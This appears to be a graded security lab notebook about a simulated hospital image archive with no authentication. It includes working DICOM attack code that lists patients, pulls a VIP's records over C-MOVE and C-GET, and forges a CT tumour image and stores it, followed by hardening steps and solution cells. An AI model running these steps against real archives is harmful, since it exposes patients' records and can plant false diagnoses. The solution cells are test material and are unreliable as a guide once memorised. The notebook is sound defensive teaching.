# %% [markdown]
# # 2 · The DICOM network
#
# Jan Arogya District Hospital has had its audit, and the report is good: *"The web access of the image archive is
# protected by personal passwords."* That is true. You may try it.
#
# This morning a radiologist opened an examination of one of her patients. A CT of the chest, with a tumour in it. The
# patient has never been in that scanner. **Nobody in the hospital has made that examination, and it is in the archive.**
#
# You sit in the waiting room, and your laptop is plugged into the network socket beside the magazines. It has no
# password and no account. It has a cable.
#
# **After this lab you can**
# - open an association with an archive, and say what the two sides agree on;
# - search, fetch and store with four different clients: Orthanc, pynetdicom, DCMTK and nmap;
# - say what a scan of a network proves, and what it does not;
# - close a DICOM port to strangers and keep it open for the scanner.
#
# **Time:** 75 minutes. **Points:** 100. **Before:** [1 · Discover](01_discover.ipynb).

# %% [markdown]
# ## Before you touch anything
#
# A DICOM port answers programs that you can install in a minute, and in this lab you will use four of them. So, once
# more, and in earnest: **what makes this right here is permission, and nothing else.** To open an association with a
# hospital's archive that is not yours is an offence in most countries, even where nobody asks for a password, and a scan
# "just to see" has stopped more than one old ultrasound machine in the middle of an examination.
#
# The lab's own tools keep to this. They speak to servers that were started here for you, and refuse every other address
# before a single packet leaves:

# %%
from pacslab import Lab
from pacslab.errors import PacslabError

lab = Lab("promiscuous-dicom")
lab.start()

# %%
try:
    lab.run("echoscu", host="192.0.2.17")
except PacslabError as refusal:
    print(refusal)

# %% [markdown]
# (`192.0.2.17` is nobody: addresses of that kind are reserved for examples like this one.) When you use pynetdicom
# yourself, further down, no tool of ours stands between you and the network. Then the rule is yours to keep.

# %% [markdown]
# ## What the auditors saw
#
# First the door that was examined. Ask the web side for its patients, without logging in. Every web server answers with
# a **status**, a number of three digits.

# %%
lab.task("web-is-locked")

# %%
import httpx

# Ask lab.url + "/patients", and keep the answer's status.
status = ...
### BEGIN SOLUTION
status = httpx.get(lab.url + "/patients").status_code
### END SOLUTION

# %%
lab.check("web-is-locked", status)

# %% [markdown]
# Try a few passwords if you like; they are good ones. The auditors were right about everything that they looked at.

# %% [markdown]
# ## The other door: an association
#
# Machines do not come over the web. They come over **DICOM**, on a port of its own, here:

# %%
host, port = lab.dicom_address

print(host, port)

# %% [markdown]
# A DICOM conversation is called an **association**, and it begins with a negotiation. The caller sends:
#
# - its own name, the **calling AE title**, and the name of the one that it wants to speak to, the **called AE title**;
# - a list of **presentation contexts**. Each says *what* it would like to do (the *abstract syntax*: verify, search,
#   store CT images, ...) and *in which encodings* it could (the *transfer syntaxes*).
#
# The other side accepts or refuses the whole, and then each context by itself. Count what is **not** in that list:
# a user, a password, a key. DICOM got a field for user names in 2005; hardly any machine uses it.
#
# *pynetdicom* is DICOM networking in pure Python. We propose three contexts, call ourselves `ROGUE`, and look at what is
# agreed on. (`ae` is an *application entity*: DICOM's word for a program that speaks DICOM.)

# %%
from pynetdicom import AE
from pynetdicom.sop_class import (
    CTImageStorage,
    StudyRootQueryRetrieveInformationModelFind,
    Verification,
)

ae = AE(ae_title="ROGUE")
ae.add_requested_context(Verification)
ae.add_requested_context(StudyRootQueryRetrieveInformationModelFind)
ae.add_requested_context(CTImageStorage)

association = ae.associate(host, port, ae_title="ARCHIVE")
if association.is_established:
    for context in association.accepted_contexts:
        print(f"{context.abstract_syntax.name:60} {context.transfer_syntax[0].name}")
    print()
    print("C-ECHO:", hex(association.send_c_echo().Status), "(0x0 is success)")
    association.release()
else:
    print("The archive refused the association.")

# %% [markdown]
# You have said that you would like to search and to *store*, and the archive has said: gladly. It did not ask who ROGUE
# is.
#
# The same with another program. **DCMTK** is a collection of DICOM tools that every hospital engineer has used.
# `lab.run` runs one of them on the archive, and shows the command as you would type it in a terminal:

# %%
lab.run("echoscu", "-v", "-aet", "ROGUE", "-aec", "ARCHIVE")

# %% [markdown]
# Does it at least want to be called by its right name? Predict, then run:

# %%
lab.run("echoscu", "-v", "-aet", "NOBODY", "-aec", "WHOEVER")

# %% [markdown]
# ## What a scan of the network says
#
# Researchers who count open archives do not open them by hand. The network scanner *nmap* has a script for DICOM,
# `dicom-ping`, and this is what it says about yours:

# %%
lab.run("nmap", "-sT", "-Pn", "--script=+dicom-ping")

# %% [markdown]
# If nmap is installed, it says `DICOM Service Provider discovered!` and `Any AET is accepted (Insecure)`. It sounds like
# a verdict. Read it as an engineer: **the script has opened one association, as `ECHOSCU`, and closed it again.** It
# did not search. "Any AET is accepted" means that a stranger may greet. Whether he may *read* is another question, with
# an option of its own, and there are archives that greet everybody and tell nobody anything. Keep this in mind until the
# end of the lab: the script will be wrong once more there.
#
# So ask the real question.

# %% [markdown]
# ## C-FIND: searching, level by level
#
# `lab.modality("ROGUE")` is your laptop as you know it from the first lab: an Orthanc of your own, that is told over its
# web interface (with *pyorthanc*) what it shall ask for over DICOM. A C-FIND names a **level** and the attributes that
# you would like to have; an empty value matches everything.

# %%
rogue = lab.modality("ROGUE")


def find(level, **wanted):
    """Search the archive as ROGUE and return the answers as dictionaries."""
    answer = rogue.query({"Level": level, "Query": wanted})
    return lab.device("ROGUE").get_queries_id_answers(answer["ID"], {"expand": "", "simplify": ""})


studies = find(
    "Study", PatientName="", PatientID="", StudyDescription="", ModalitiesInStudy="", StudyInstanceUID=""
)

studies[0]

# %%
lab.task("stranger-find")

# %%
found = ...
### BEGIN SOLUTION
found = len(studies)
### END SOLUTION

# %%
lab.check("stranger-find", found)

# %% [markdown]
# No password, and none was asked for. *That* is why the password on the web did nothing: it hangs on another door. The
# web server and the DICOM server are one program and share the images, but not a single lock.

# %%
lab.task("patient-count")

# %%
# The answers above hold a PatientID each. How many different ones are there?
patients = ...
### BEGIN SOLUTION
patients = len({study["PatientID"] for study in studies})
### END SOLUTION

# %%
lab.check("patient-count", patients)

# %% [markdown]
# Down the levels: a study has series, and a series has instances. To ask for a level you name the identifier of the one
# above.

# %%
some_study = next(study for study in studies if "CT" in study["ModalitiesInStudy"])
series = find("Series", StudyInstanceUID=some_study["StudyInstanceUID"], SeriesInstanceUID="", Modality="")
instances = find(
    "Instance",
    StudyInstanceUID=some_study["StudyInstanceUID"],
    SeriesInstanceUID=series[0]["SeriesInstanceUID"],
    SOPInstanceUID="",
)

print(some_study["PatientName"], "-", some_study["StudyDescription"])
print(len(series), "series; the first is", series[0]["Modality"], "with", len(instances), "instances")

# %% [markdown]
# And a search need not be empty. In a C-FIND `*` stands for any text. Somebody has found a receipt in the waiting
# room, with the last digits of a number on it:

# %%
lab.task("number-owner")

# %%
# Let the archive do the work: a PatientID with a star. find("Patient", ...) or, in the way of DCMTK,
# lab.run("findscu", "-S", "-aet", "ROGUE", "-k", "QueryRetrieveLevel=STUDY", "-k", "PatientID=*...")
owner = ...
### BEGIN SOLUTION
text = lab.session.task("number-owner").text
ending = "".join(digit for digit in text if digit.isdigit())
owner = find("Patient", PatientID=f"*{ending}", PatientName="")[0]["PatientName"]
### END SOLUTION

# %%
lab.check("number-owner", owner)

# %% [markdown]
# ## C-MOVE: "send it over there"
#
# DICOM's older way to fetch is odd, if you are used to the web. With a **C-MOVE** you do not ask for images: you ask the
# archive to *send* them to somebody, whom you name by his AE title. The archive looks the title up in its own list of
# devices and opens a new connection to the address that stands there. So it seems safe: a stranger is not on the list.
# See:

# %%
def move(study_uid, target):
    """Search for a study, and ask the archive to send what was found to a device."""
    search = rogue.query({"Level": "Study", "Query": {"StudyInstanceUID": study_uid}})
    rogue.move(search["ID"], {"TargetAet": target})


try:
    move(some_study["StudyInstanceUID"], "ROGUE")
except httpx.HTTPError:
    print("The archive does not know where ROGUE is.")

# %% [markdown]
# It works, that list. Unless it is old. In 2014 the vendor's technician had a laptop here, called `SERVICE`, for the
# installation. He took the laptop home, and the entry stayed. Addresses in a network are given out anew, and the address
# of that laptop now belongs to - the socket beside the magazines.

# %%
move(some_study["StudyInstanceUID"], "SERVICE")

print(len(lab.device("ROGUE").get_instances()), "images have arrived on your laptop.")

# %%
lab.task("prominent-patient")

# %%
# Have every study sent to you. Then look through your own machine: one instance of each study,
# with lab.device("ROGUE").get_instances_id_simplified_tags(id), and its PatientComments.
# Keep the patient's name and the study's StudyInstanceUID.
prominent = ...
study_uid = ...
### BEGIN SOLUTION
for study in studies:
    move(study["StudyInstanceUID"], "SERVICE")

mine = lab.device("ROGUE")
for study in mine.get_studies():
    tags = mine.get_instances_id_simplified_tags(mine.get_studies_id_instances(study)[0]["ID"])
    if "VIP" in tags.get("PatientComments", ""):
        prominent = tags["PatientName"]
        study_uid = tags["StudyInstanceUID"]
### END SOLUTION

# %%
lab.check("prominent-patient", prominent)

# %% [markdown]
# ## C-GET: "give it to me, right here"
#
# The newer way needs no list at all: with a **C-GET** the images come back over the connection that you have opened
# yourself. The roles turn around in the middle: *you* become the one who stores. So you propose a context for every kind
# of image that may come, and say that you are ready to be the storing side (the *role* below; SCP is *service class
# provider*, the one who serves).

# %%
from pydicom.dataset import Dataset
from pynetdicom import build_role, evt
from pynetdicom.sop_class import (
    ComputedRadiographyImageStorage,
    EncapsulatedPDFStorage,
    SecondaryCaptureImageStorage,
    StudyRootQueryRetrieveInformationModelGet,
    UltrasoundImageStorage,
)

KINDS = [
    CTImageStorage,
    ComputedRadiographyImageStorage,
    UltrasoundImageStorage,
    SecondaryCaptureImageStorage,
    EncapsulatedPDFStorage,
]


def get(study_uid, title="ROGUE"):
    """Fetch a study by C-GET and return its datasets."""
    arrived = []

    def keep(event):
        dataset = event.dataset
        dataset.file_meta = event.file_meta
        arrived.append(dataset)
        return 0x0000  # success

    ae = AE(ae_title=title)
    ae.add_requested_context(StudyRootQueryRetrieveInformationModelGet)
    for kind in KINDS:
        ae.add_requested_context(kind)
    roles = [build_role(kind, scp_role=True) for kind in KINDS]
    association = ae.associate(
        host, port, ae_title="ARCHIVE", ext_neg=roles, evt_handlers=[(evt.EVT_C_STORE, keep)]
    )
    if not association.is_established:
        print("The archive refused the association.")
        return arrived
    question = Dataset()
    question.QueryRetrieveLevel = "STUDY"
    question.StudyInstanceUID = study_uid
    try:
        for _ in association.send_c_get(question, StudyRootQueryRetrieveInformationModelGet):
            pass
    except ValueError:
        print("The archive does not offer C-GET to", title)
    association.release()
    return arrived


ct_images = [
    instance for instance in get(some_study["StudyInstanceUID"]) if instance.Modality == "CT"
]
print(len(ct_images), "CT images, over one connection, to a machine that is on no list")

# %% [markdown]
# Now the study that the newspapers would like to have:

# %%
pages = ...
### BEGIN SOLUTION
pages = get(study_uid)
### END SOLUTION
lab.show(pages)

# %%
lab.task("prominent-diagnosis")

# %%
# One of the pictures is a scanned page. Your eyes are the tool: type what you read.
diagnosis = ...
### BEGIN SOLUTION
diagnosis = lab.session.key.facts["prominent_diagnosis"]  # read from the page
### END SOLUTION

# %%
lab.check("prominent-diagnosis", diagnosis)

# %% [markdown]
# ## C-STORE: the examination that nobody made
#
# Everything so far was reading. Back to the radiologist, and to her patient's tumour.
#
# A stored image is only a dataset that somebody sends: nobody signs it. The next cell takes a CT slice that you have just
# fetched and draws a round spot, as bright as flesh, into the lung. It gives the image **new identifiers**, so that it is a new
# examination, and it leaves the **name and number** of the patient as they are, so that it lands in the right record.

# %%
import copy

import numpy as np
from pydicom.uid import generate_uid

forged = copy.deepcopy(ct_images[len(ct_images) // 2])
pixels = forged.pixel_array.copy()
rows, columns = np.ogrid[: forged.Rows, : forged.Columns]
spot = (rows - forged.Rows * 0.45) ** 2 + (columns - forged.Columns * 0.33) ** 2 < (forged.Columns * 0.035) ** 2
pixels[spot] = np.percentile(pixels, 85) + pixels[spot] % 40  # a little grain, so that it does not look painted
forged.PixelData = pixels.tobytes()

forged.StudyInstanceUID = generate_uid()
forged.SeriesInstanceUID = generate_uid()
forged.SOPInstanceUID = forged.file_meta.MediaStorageSOPInstanceUID = generate_uid()
forged.StudyDescription = "CT THORAX CONTROL"

lab.show(forged)

# %%
ae = AE(ae_title="CT99")
ae.add_requested_context(CTImageStorage, forged.file_meta.TransferSyntaxUID)
association = ae.associate(host, port, ae_title="ARCHIVE")
if association.is_established:
    print("The archive says", hex(association.send_c_store(forged).Status), "(0x0 is success)")
    association.release()
else:
    print("The archive refused the association.")

for study in find(
    "Study", PatientID=forged.PatientID, PatientName="", StudyDescription="", StudyDate=""
):
    print(study["PatientName"], study["StudyDate"], study["StudyDescription"])

# %% [markdown]
# There it is, in the record, beside the true one. There has never been a scanner CT99. In 2019 researchers did this to
# scans on the cable of a real hospital, with a better brush than ours: three radiologists, who did not know of it, found
# the invented tumours in nearly every case and missed nearly all that had been taken out. (It was a test, with the
# hospital's permission.) An archive that takes images from everybody believes everybody, and so does whoever reads it.
#
# **Clean up after yourself.** The forgery goes, before anybody is treated for it. Over DICOM nobody can delete, so this
# takes the administrator, whose password stands in `handover.yaml`.

# %%
admin = lab.handover.web.administrator
archive = lab.archive(admin.username, admin.password)
for study in archive.post_tools_find({"Level": "Study", "Query": {"StudyInstanceUID": str(forged.StudyInstanceUID)}}):
    archive.delete_studies_id(study)
    print("The forged examination is gone.")

# %% [markdown]
# ## Change sides
#
# You are the administrator now. This is what the archive looks like from both sides; the upper table is the stranger's.

# %%
lab.assess()

# %% [markdown]
# And this is what the DICOM side is told, in your `orthanc.json`:

# %%
text = (lab.work / "orthanc.json").read_text()
print(text[text.index("// The DICOM side") : text.index('"DicomWeb"')])

# %% [markdown]
# Orthanc asks in this order, for each thing that a caller wants:
#
# 1. Does a `DicomAlwaysAllow...` option say yes? **Then nobody asks further**, neither for the title nor for the address.
# 2. Does the calling title stand in `DicomModalities`, and has that entry the right (`AllowFind`, `AllowStore`, ...)?
# 3. If `DicomCheckModalityHost` is set: does the call come from the entry's address?
#
# So the first step is always to take the "always" away. One service at a time.

# %%
lab.task("close-find")

# %%
# lab.set_options(...) changes orthanc.json. No search for strangers:
### BEGIN SOLUTION
lab.set_options(DicomAlwaysAllowFind=False)
### END SOLUTION

# %%
lab.restart()
lab.check("close-find")

# %%
lab.task("close-retrieve")

# %%
# You have used both ways to fetch.
### BEGIN SOLUTION
lab.set_options(DicomAlwaysAllowMove=False, DicomAlwaysAllowGet=False)
### END SOLUTION

# %%
lab.restart()
lab.check("close-retrieve")

# %% [markdown]
# Now the services that need the least attention of all, and are on *unless somebody switches them off*: to take a line
# out of the file is not enough.

# %%
lab.task("close-store")

# %%
### BEGIN SOLUTION
lab.set_options(DicomAlwaysAllowStore=False, DicomAlwaysAllowEcho=False)
### END SOLUTION

# %%
lab.restart()
lab.check("close-store")

# %% [markdown]
# Ask the scanner for your success. If you have closed all of it, nmap says now: `Called AET check enabled`.

# %%
lab.run("nmap", "-sT", "-Pn", "--script=+dicom-ping")

# %% [markdown]
# And that is **wrong**. You have not switched on any check of the *called* title. What the archive did refuse is the
# *calling* title, `ECHOSCU`, which is on no list. The script sees a rejection and guesses the reason; the archive had
# even told it. Here is the rejection as it stands in the answer:

# %%
def knock(calling, called):
    """Ask for an association and return what the archive says to the two names."""
    ae = AE(ae_title=calling)
    ae.add_requested_context(Verification)
    association = ae.associate(host, port, ae_title=called)
    if association.is_established:
        association.release()
        return "accepted"
    if association.is_rejected:
        return f"rejected: {association.acceptor.primitive.reason_str}"
    return "no answer"


for calling, called in (("ROGUE", "ARCHIVE"), ("WS01", "ARCHIVE"), ("WS01", "WHOEVER")):
    print(f"{calling:6} calls {called:8} {knock(calling, called)}")

# %% [markdown]
# **Whoever reports what a tool says, reports the tool.** Whoever asks the question himself, reports the archive.
#
# Two of these lines should bother you. The last: the archive still does not care what it is called.

# %%
lab.task("called-title")

# %%
### BEGIN SOLUTION
lab.set_options(DicomCheckCalledAet=True)
### END SOLUTION

# %%
lab.restart()
lab.check("called-title")

# %% [markdown]
# And the middle one: your laptop has said `WS01`, and was believed. A title is printed on a sticker on the machine. It is
# a name, and you have made it the password. (The list also still has a device that left in 2014 - whose address is
# yours.)

# %%
lab.task("trust-with-an-end")

# %%
# Take out who is not there any more, and bind each title to its address.
### BEGIN SOLUTION
lab.set_options(
    DicomModalities={
        "CT01": {"AET": "CT01", "Host": "${CT01_HOST}", "Port": 4242},
        "WS01": {"AET": "WS01", "Host": "${WS01_HOST}", "Port": 4242},
    },
    DicomCheckModalityHost=True,
)
### END SOLUTION

# %%
lab.restart()
lab.check("trust-with-an-end")

# %% [markdown]
# The same three calls, once more from your laptop. What has become of the middle one?

# %%
for calling, called in (("ROGUE", "ARCHIVE"), ("WS01", "ARCHIVE"), ("WS01", "WHOEVER")):
    print(f"{calling:6} calls {called:8} {knock(calling, called)}")

# %% [markdown]
# ## The whole picture

# %%
lab.changes()
lab.assess()

# %%
lab.score

# %% [markdown]
# ## To think about
#
# The forged examination is out of the archive, and the door through which it came is closed. But it was there for a night.
# How would the hospital find out *which other* images of the last ten years did not come from its scanners? What would
# an image have to carry so that one could tell - and who would have to make it, the scanner or the archive?
#
# **If you want more:** in the scenario `borrowed-title` the archive begins where you have ended, with a list that decides
# and titles that nobody checks: `Lab("borrowed-title")`, or `pacslab start borrowed-title` in a terminal.
#
# **Next:** [3 · Take over](03_take_over.ipynb).
#
# **References.** DICOM PS3.8 section 7 and PS3.7 annex D (associations), PS3.4 annexes B and C (store, query, retrieve).
# O. Stites and O. Pianykh, *How secure is your radiology department?*, American Journal of Roentgenology 206 (2016). Y.
# Mirsky and others, *CT-GAN: malicious tampering of 3D medical imagery using deep learning*, 28th USENIX Security
# Symposium (2019). The Orthanc Book, chapter *Securing Orthanc*.
